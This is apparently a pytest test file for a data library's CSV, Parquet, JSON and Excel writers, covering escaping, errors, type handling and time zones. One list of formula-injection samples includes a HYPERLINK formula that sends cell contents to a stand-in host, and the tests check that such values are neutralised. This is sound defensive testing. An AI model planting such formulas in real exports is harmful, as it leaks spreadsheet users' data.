from __future__ import annotations

import csv
import datetime
import gzip
import json

import openpyxl
import polars as pl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from peephole.core.errors import DataError, SettingError, SourceError
from peephole.core.progress import reporting_to
from peephole.nodes.io.write import write_csv, write_excel, write_json, write_parquet

ROWS = [{"k": "a,b", "g": 1, "v": 0.5, "i": 3, "b": True}, {"k": None, "g": None, "v": None, "i": None, "b": None}]


def test_csv_in_order_without_the_hidden_number(on, tmp_path):
    path = write_csv(on.frame(ROWS), path=str(tmp_path / "new" / "t.csv"))
    assert path == str(tmp_path / "new" / "t.csv") or path.value == str(tmp_path / "new" / "t.csv")
    assert (tmp_path / "new" / "t.csv").read_text() == 'k,g,v,i,b\n"a,b",1,0.5,3,true\n,,,,\n'


def test_csv_gzipped(on, tmp_path):
    write_csv(on.frame(ROWS), path=str(tmp_path / "t.csv.gz"), delimiter=";")
    assert gzip.decompress((tmp_path / "t.csv.gz").read_bytes()).startswith(b"k;g;v;i;b\n")


def test_parquet(on, tmp_path):
    write_parquet(on.frame(ROWS), path=str(tmp_path / "t.parquet"))
    assert pq.read_table(tmp_path / "t.parquet").to_pylist() == ROWS
    assert [p.name for p in tmp_path.iterdir()] == ["t.parquet"]


def test_what_a_text_file_cannot_hold(on, tmp_path):
    with pytest.raises(SettingError, match="lists"):
        write_csv(on.frame([{"x": [1]}], pa.schema({"x": pa.list_(pa.int64())})), path=str(tmp_path / "t.csv"))


def test_a_folder_is_no_file(on, tmp_path):
    with pytest.raises(SourceError, match="is a folder"):
        write_csv(on.frame(ROWS), path=str(tmp_path))


def test_a_failed_write_leaves_the_old_file(on, tmp_path):
    from peephole.nodes.columns.formula import formula

    (tmp_path / "t.csv").write_text("old")
    with pytest.raises(Exception, match="a,b"):
        write_csv(formula(on.frame(ROWS), name="x", expression="CAST(k AS INTEGER)"), path=str(tmp_path / "t.csv"))
    assert (tmp_path / "t.csv").read_text() == "old"


def test_json_lines(on, tmp_path):
    write_json(on.frame(ROWS), path=str(tmp_path / "t.jsonl"))
    assert [json.loads(line) for line in (tmp_path / "t.jsonl").read_text().splitlines()] == ROWS
    nested = pa.schema({"x": pa.list_(pa.int64()), "t": pa.timestamp("us"), "f": pa.float64()})
    moment = datetime.datetime(2013, 1, 1, 10)
    write_json(on.frame([{"x": [1, None], "t": moment, "f": float("inf")}], nested), path=str(tmp_path / "n.jsonl.gz"))
    line = gzip.decompress((tmp_path / "n.jsonl.gz").read_bytes()).decode()
    assert json.loads(line) == {"x": [1, None], "t": "2013-01-01 10:00:00", "f": None}


def test_json_with_quotes_line_breaks_and_emoji(on, tmp_path):
    hard = [{"k": 'a "b"\nc\td\\e 😀', "g": 1, "v": None, "i": 2, "b": False}]
    write_json(on.frame(hard), path=str(tmp_path / "t.jsonl"))
    assert [json.loads(line) for line in (tmp_path / "t.jsonl").read_text(encoding="utf-8").splitlines()] == hard


def test_an_excel_file(on, tmp_path):
    write_excel(on.frame(ROWS), path=str(tmp_path / "t.xlsx"), sheet="Result")
    page = openpyxl.load_workbook(tmp_path / "t.xlsx")["Result"]
    assert [[cell.value for cell in row] for row in page] == [
        ["k", "g", "v", "i", "b"],
        ["a,b", 1, 0.5, 3, True],
    ]  # a row without any value is no row in a sheet
    assert [p.name for p in tmp_path.iterdir()] == ["t.xlsx"]


def test_text_never_becomes_a_formula_in_excel(on, tmp_path):
    write_excel(on.frame([{"k": "=1+1"}], pa.schema({"k": pa.string()})), path=str(tmp_path / "t.xlsx"))
    cell = openpyxl.load_workbook(tmp_path / "t.xlsx").active["A2"]
    assert (cell.data_type, cell.value) == ("s", "=1+1")


def test_what_a_sheet_cannot_hold(on, tmp_path):
    target = str(tmp_path / "t.xlsx")
    with pytest.raises(DataError, match="control character"):
        write_excel(on.frame([{"k": "a\x01"}], pa.schema({"k": pa.string()})), path=target)
    with pytest.raises(DataError, match="32767 letters in a cell"):
        write_excel(on.frame([{"k": "a" * 40_000}], pa.schema({"k": pa.string()})), path=target)
    with pytest.raises(SettingError, match="lists"):
        write_excel(on.frame([{"x": [1]}], pa.schema({"x": pa.list_(pa.int64())})), path=target)
    assert not list(tmp_path.iterdir())


HOSTILE = [
    '=HYPERLINK("http://x/?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "plain",
    "a=b",
    "",
    None,
    "'=1",
]
NAMED = pa.schema({"=name": pa.string()})
GUARDED = [f"'{v}" if v and v[0] in "=+-@\t\r\n" else v for v in HOSTILE]


def test_text_that_begins_like_a_formula_is_guarded_where_asked(on, tmp_path):
    rows = [{"=name": text, "n": -i} for i, text in enumerate(HOSTILE)]
    schema = pa.schema({"=name": pa.string(), "n": pa.int64()})
    write_csv(on.frame(rows, schema), path=str(tmp_path / "t.csv"), guard_formulas=True)
    with (tmp_path / "t.csv").open(newline="") as file:
        found = list(csv.reader(file))
    assert found[0] == ["'=name", "n"]
    assert [text or None for text, _ in found[1:]] == [v or None for v in GUARDED]
    assert [number for _, number in found[1:]] == [str(-i) for i in range(len(HOSTILE))], "numbers stay numbers"
    book = openpyxl.Workbook()  # what a spreadsheet program makes of the cells
    for row in found:
        book.active.append(row)
    assert {cell.data_type for row in book.active.iter_rows() for cell in row} <= {"s", "n"}


def test_a_table_without_text_is_guarded_as_it_is(on, tmp_path):
    schema = pa.schema({"n": pa.int64(), "-x": pa.float64()})
    write_csv(on.frame([{"n": -1, "-x": 0.5}], schema), path=str(tmp_path / "t.csv"), guard_formulas=True)
    with (tmp_path / "t.csv").open(newline="") as file:
        assert list(csv.reader(file)) == [["n", "'-x"], ["-1", "0.5"]]


def test_text_is_written_as_it_is_unless_guarding_is_asked_for(on, tmp_path):
    write_csv(on.frame([{"=name": text} for text in HOSTILE], NAMED), path=str(tmp_path / "t.csv"))
    with (tmp_path / "t.csv").open(newline="") as file:
        assert [row[0] if row else "" for row in csv.reader(file)] == ["=name", *(v or "" for v in HOSTILE)]


def test_a_guarded_name_that_is_taken_is_told(on, tmp_path):
    schema = pa.schema({"=x": pa.int64(), "'=x": pa.int64()})
    with pytest.raises(SettingError, match='already called "\'=x"'):
        write_csv(on.frame([{"=x": 1, "'=x": 2}], schema), path=str(tmp_path / "t.csv"), guard_formulas=True)


def test_every_hostile_text_reads_back_as_text_from_excel(on, tmp_path):
    write_excel(on.frame([{"=name": text} for text in HOSTILE[:6]], NAMED), path=str(tmp_path / "t.xlsx"))
    cells = [cell for (cell,) in openpyxl.load_workbook(tmp_path / "t.xlsx").active.iter_rows()]
    assert [cell.data_type for cell in cells] == ["s"] * 7
    assert [cell.value.replace("\n", "\r") for cell in cells] == ["=name", *HOSTILE[:6]]


def test_what_a_sheet_would_change_is_written_as_text(on, tmp_path, told):
    rows = [
        {
            "long": 1234567890123456789,
            "n": 999999999999999,
            "d": datetime.date(1850, 5, 1),
            "t": datetime.datetime(2024, 1, 1, 0, 0, 0, 1),
        },
        {"long": None, "n": -1, "d": None, "t": None},
    ]
    schema = pa.schema({"long": pa.int64(), "n": pa.int64(), "d": pa.date32(), "t": pa.timestamp("us")})
    with reporting_to(told):
        write_excel(on.frame(rows, schema), path=str(tmp_path / "t.xlsx"))
    (_, first, second) = openpyxl.load_workbook(tmp_path / "t.xlsx").active.iter_rows(values_only=True)
    assert first == ("1234567890123456789", 999999999999999, "1850-05-01", datetime.datetime(2024, 1, 1))
    assert second == (None, -1, None, None)
    assert told.messages == [
        '"long" holds numbers of more than 15 digits, which a sheet would change: it is written as text.',
        '"d" holds days before March 1900, which a sheet would change: it is written as text.',
        '"t" is written to the millisecond; a sheet holds no more.',
    ]


def test_moments_with_a_zone_are_written_in_utc(tmp_path, told):
    zone = datetime.timezone(datetime.timedelta(hours=2))
    rows = pa.table(
        {"t": pa.array([datetime.datetime(2024, 7, 1, 2, 30, tzinfo=zone), None], pa.timestamp("us", "UTC"))}
    )
    pq.write_table(rows, tmp_path / "t.parquet")
    with reporting_to(told):
        write_excel(pl.scan_parquet(tmp_path / "t.parquet"), path=str(tmp_path / "t.xlsx"))
    assert openpyxl.load_workbook(tmp_path / "t.xlsx").active["A2"].value == datetime.datetime(2024, 7, 1, 0, 30)
    assert told.messages == ['"t" is written in UTC, for a sheet knows no zones.']
